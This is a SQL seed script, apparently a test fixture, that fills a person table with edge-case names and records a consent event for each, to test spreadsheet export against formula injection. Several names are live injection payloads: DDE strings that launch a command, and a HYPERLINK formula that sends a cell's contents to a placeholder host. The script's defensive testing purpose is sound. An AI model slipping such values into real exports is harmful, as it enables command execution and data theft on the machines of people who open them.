-- People on the list whose names a spreadsheet would run, would take apart, or must leave alone.
WITH newcomer AS (
    INSERT INTO person (email, name, address_digest)
    SELECT email, name, sha256(convert_to(email, 'UTF8'))
    FROM (
        VALUES
            ('ada@example.org', 'Ada Lovelace'),
            ('calc@example.org', '=cmd|'' /C calc''!A0'),
            ('sum@example.org', '=1+1'),
            ('at@example.org', '@SUM(1+1)*cmd|'' /C calc''!A0'),
            ('plus@example.org', '+1+1'),
            ('minus@example.org', '-1+1'),
            ('tab@example.org', E'\t=1+1'),
            ('return@example.org', E'\r=1+1'),
            ('link@example.org', '=HYPERLINK("http://example.org/?x="&A1,"Click")'),
            ('last@example.org', 'Eve =1+1'),
            ('quotes@example.org', 'Bo "B" de Vries, Jr; Esq.'),
            ('cells@example.org', '","=1+1'),
            ('lines@example.org', E'Two\nLines'),
            ('nobody@example.org', NULL),
            ('=1+1@example.org', 'An address'),
            ('+tag@example.org', 'Another'),
            ('zoë@example.org', 'Zoë 李小龙 😀')
    ) AS people (email, name)
    RETURNING id
)
INSERT INTO consent_event (person_id, kind, at, source, wording_version)
SELECT id, 'confirmed', '2026-11-22T10:00:00Z', 'workshop', 1
FROM newcomer;
